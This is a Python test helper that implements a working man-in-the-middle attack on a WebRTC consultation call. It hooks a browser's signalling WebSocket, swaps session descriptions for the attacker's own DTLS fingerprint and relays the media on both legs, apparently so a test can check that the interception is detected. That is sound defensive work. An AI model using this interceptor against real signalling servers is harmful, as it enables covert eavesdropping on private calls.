"""A man in the middle of a consultation, for the test that proves it is made evident.

It sits on one browser's signalling WebSocket (Playwright's WebSocket routing stands in
for a compromised proxy or server) and, with two aiortc peer connections, terminates
DTLS on both legs: it swaps every session description for one carrying its own
certificate's fingerprint, keeps the ICE candidates to itself, and relays the media
between the legs. Both browsers connect — to the attacker.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import dataclass, field
from typing import Any

from aiortc import RTCPeerConnection, RTCSessionDescription
from aiortc.contrib.media import MediaRelay
from aiortc.mediastreams import MediaStreamTrack
from aiortc.sdp import candidate_from_sdp
from playwright.async_api import WebSocketRoute


@dataclass
class Leg:
    """The attacker's end of one call leg (facing the victim or facing the server side)."""

    pc: RTCPeerConnection = field(default_factory=RTCPeerConnection)
    tracks: list[MediaStreamTrack] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.pc.on("track", self.tracks.append)

    async def add_candidate(self, candidate: dict[str, Any] | None) -> None:
        if not candidate or not candidate.get("candidate"):
            return
        parsed = candidate_from_sdp(candidate["candidate"].removeprefix("candidate:"))
        parsed.sdpMid = candidate.get("sdpMid")
        parsed.sdpMLineIndex = candidate.get("sdpMLineIndex")
        await self.pc.addIceCandidate(parsed)


class SignallingInterceptor:
    """Rewrites the victim's signalling: ``victim`` is the browser whose socket is routed,
    ``far`` the server side (the other participant, reached through the server)."""

    def __init__(self) -> None:
        self.relay = MediaRelay()
        self.victim_leg = Leg()
        self.far_leg = Leg()
        self.rewritten = 0
        self.to_page: asyncio.Queue[str] = asyncio.Queue()
        self.to_server: asyncio.Queue[str] = asyncio.Queue()
        self._tasks: list[asyncio.Task[None]] = []

    async def attach(self, route: WebSocketRoute) -> None:
        server = route.connect_to_server()
        # Handlers must not block Playwright's dispatch: queue, then handle in order.
        route.on_message(lambda m: self.to_server.put_nowait(str(m)))
        server.on_message(lambda m: self.to_page.put_nowait(str(m)))
        self._tasks = [
            asyncio.create_task(self._pump(self.to_server, self._from_victim, server.send)),
            asyncio.create_task(self._pump(self.to_page, self._from_far, route.send)),
        ]

    async def _pump(self, queue: asyncio.Queue[str], rewrite: Any, forward: Any) -> None:
        while True:
            raw = await queue.get()
            for out in await rewrite(json.loads(raw)):
                forward(json.dumps(out))

    async def _from_victim(self, message: dict[str, Any]) -> list[dict[str, Any]]:
        kind = message.get("type")
        if kind == "candidate":
            await self.victim_leg.add_candidate(message["candidate"])
            return []
        if kind == "offer":  # the victim offers: answer it ourselves, offer the far side
            answer = await self._answer(self.victim_leg, message["description"])
            offer = await self._offer(self.far_leg, self.victim_leg)
            self._reply_to_victim = {"type": "answer", "from": message["to"], "description": answer}
            return [{"type": "offer", "to": message["to"], "description": offer}]
        if kind == "answer":  # the victim answers our offer
            await self.victim_leg.pc.setRemoteDescription(_description(message["description"]))
            return [{"type": "answer", "to": message["to"], "description": self._far_answer}]
        return [message]  # fingerprints, chat, state…: passed on untouched

    async def _from_far(self, message: dict[str, Any]) -> list[dict[str, Any]]:
        kind = message.get("type")
        if kind == "candidate":
            await self.far_leg.add_candidate(message["candidate"])
            return []
        if kind == "offer":  # the far side offers: answer it ourselves, offer the victim
            self._far_answer = await self._answer(self.far_leg, message["description"])
            offer = await self._offer(self.victim_leg, self.far_leg)
            return [{"type": "offer", "from": message["from"], "description": offer}]
        if kind == "answer":
            await self.far_leg.pc.setRemoteDescription(_description(message["description"]))
            return [self._reply_to_victim]
        return [message]

    async def _answer(self, leg: Leg, description: dict[str, str]) -> dict[str, str]:
        await leg.pc.setRemoteDescription(_description(description))
        await leg.pc.setLocalDescription(await leg.pc.createAnswer())
        self.rewritten += 1
        return {"type": "answer", "sdp": leg.pc.localDescription.sdp}

    async def _offer(self, leg: Leg, source: Leg) -> dict[str, str]:
        # The media received on one leg is sent on the other: the call works.
        for track in source.tracks:
            leg.pc.addTrack(self.relay.subscribe(track))
        for kind in ("audio", "video"):
            if not any(t.kind == kind for t in source.tracks):
                leg.pc.addTransceiver(kind, direction="recvonly")
        await leg.pc.setLocalDescription(await leg.pc.createOffer())
        self.rewritten += 1
        return {"type": "offer", "sdp": leg.pc.localDescription.sdp}

    async def close(self) -> None:
        for task in self._tasks:
            task.cancel()
        await self.victim_leg.pc.close()
        await self.far_leg.pc.close()


def _description(raw: dict[str, str]) -> RTCSessionDescription:
    return RTCSessionDescription(sdp=raw["sdp"], type=raw["type"])
